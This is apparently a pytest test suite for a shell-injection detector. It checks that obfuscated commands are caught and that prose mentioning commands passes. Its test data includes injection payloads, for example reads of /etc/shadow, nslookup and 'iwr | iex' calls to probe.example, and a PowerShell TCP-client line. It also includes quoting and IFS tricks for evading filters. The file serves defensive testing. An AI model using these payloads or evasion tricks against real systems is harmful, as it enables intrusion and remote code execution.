"""Shell injection: commands are found however they are written, and left alone where they are only talked about."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lambdaguard.lexers.shell import scan
from lambdaguard.lexers.shell_word import read
from lambdaguard.rules.engine import Engine

ENGINE = Engine(["shell"])


def blocked(text: str, place: str = "query") -> bool:
    return text in ENGINE.suspects([text]) and any(match.confidence == "high" for match in ENGINE.judge(text, place))


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("c''at x", "cat"),
        ("w\\ho\\ami", "whoami"),
        ("who$@ami", "whoami"),
        ("$'\\x69\\x64'", "id"),
        ("${unset:-id} x", "id"),
        ("{cat,/etc/hosts}", "cat"),
        ("cat$IFS/etc", "cat"),
        ("/b[i]n/ls", "/bin/ls"),
        ("w^hoami", "whoami"),
        ('"id"', "id"),
    ],
)
def test_word_reads_as_the_shell_reads_it(written, meant):
    assert read(written, 0).text == meant


@pytest.mark.parametrize("operator", [";", "|", "||", "&&", "&", "\n", " ; ", "|& "])
@pytest.mark.parametrize("host", ["", "10.1.2.3", "'", '")', "a"])
def test_command_after_any_operator_is_blocked(operator, host):
    assert blocked(f"{host}{operator}cat /etc/group")


@pytest.mark.parametrize("place", ["query", "header", "cookie", "path", "body", "form", "file", "record", "attribute"])
def test_substitutions_are_blocked_everywhere(place):
    assert blocked("x$(nslookup probe.example)", place)
    assert blocked("x`nslookup probe.example`", place)


@pytest.mark.parametrize(
    ("place", "text"),
    [
        ("body", "Use `cat /etc/hosts` to see them, and `ls -l` for the rest."),
        ("body", "The script runs git pull; npm ci && npm test on every push."),
        ("query", "rock & roll; jazz | blues"),
        ("query", "id;name;date"),
        ("body", "docker run -u $(id -u) -v $(pwd):/src builder make"),
        ("body", "foo() { echo hi; }\nfoo | sort | uniq -c\n"),
        ("header", "Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9)"),
        ("body", "a || test(b) && find(c); more(d)"),
        ("body", "30 2 * * 1 tar czf /backup/db-$(date +%F).tgz /var/lib/db && rm -f /var/tmp/lock"),
        ("query", "photos-$(date +%Y-%m).zip"),
        ("body", "Jan 5 04:00:01 db1 CRON[77]: (root) CMD (test -x /usr/sbin/job || ( cd / && run-parts /etc/cron.daily ))"),
        ("body", "RUN apt-get update && apt-get install -y jq && rm -rf /var/lib/apt/lists/*"),
        ("header", "R&D; id cards"),
        ("query", "--exec=<program>"),
        ("record", "Steps: cd app; make; ls -la dist | head"),
        ("query", "{{ items | sort | join }}"),
    ],
)
def test_talk_about_commands_passes(place, text):
    assert not blocked(text, place)


@pytest.mark.parametrize(
    ("place", "text"),
    [
        ("body", "系统里可以用`uname -r`查看内核的版本"),
        ("query", "编辑这个文件`/etc/fstab`，加入下面两行"),
        ("record", "次のコマンド`ps -ef | head`を実行します"),
        ("body", "ใช้คำสั่ง`netstat -rn`เพื่อดูตาราง"),
    ],
)
def test_talk_in_a_script_without_blanks_passes(place, text):
    assert not blocked(text, place)


@pytest.mark.parametrize("lead", ["东京", "查看系统信息", "東京タワー"])
@pytest.mark.parametrize("attack", [";cat /etc/shadow", "$(nslookup probe.example)", "`nslookup probe.example`", "|whoami"])
def test_a_script_without_blanks_hides_nothing(lead, attack):
    assert blocked(lead + attack)


@pytest.mark.parametrize(
    "text",
    [
        "5;$0 -c 'nproc'",
        "5|${SHELL} -c nproc",
        "5;xargs -a /etc/group",
        "x;id root",
        "report.txt);arch#",
        ");history#",
        "https://probe.example/`cd /;ls`",
        r"\nid\n",
        r"\n/usr/bin/ls -l\n",
        "--exec=sh",
        "x;expand /etc/group",
        "blue shirt;eval id",
        'x;&("i"+"ex") nproc',
        "iwr probe.example | iex",
        "powershell -c $c = New-Object Net.Sockets.TCPClient('probe.example',443); $s = $c.GetStream()",
        "10.1.2.3;arch",
        "7&&mount",
        "k-12||users",
        "7;export #",
        "blue shirt\nwhoami",
        "blue shirt\ncat /etc/group\n",
    ],
)
def test_a_command_of_few_words_after_a_value_is_blocked(text):
    assert blocked(text)


@pytest.mark.parametrize(
    "text",
    [
        "travel && history",
        "{id,name}",
        "{sort,-name}",
        r"C:\net\rows.txt",
        r"\news",
        "7|history",
        "2024-05-01;date",
        "ann@shop.example; who",
        "sea\nkubectl\npwd",
        "split;expand;finger",
        "Fotos; finger food",
    ],
)
def test_a_plain_word_after_a_value_passes(text):
    assert not blocked(text)


@given(st.permutations(range(6)).map(lambda order: order[:3]), st.sampled_from(["''", '""', "\\", "$@", "``"]))
def test_a_name_cut_by_quoting_is_still_a_name(cuts, cut):
    name = "".join(cut + letter if at in cuts and at else letter for at, letter in enumerate("whoami"))
    assert blocked(f"1;{name}")


@given(st.text(max_size=200) | st.text(alphabet="$`;|&(){}'\"\\<> \n{,}catIFSid/?*[]^-=", max_size=200))
def test_any_text_is_scanned_and_signs_lie_within_it(text):
    for rule, start, end in scan(text, "query", ""):
        assert rule.startswith("LG-SHELL-") and 0 <= start < end <= len(text)
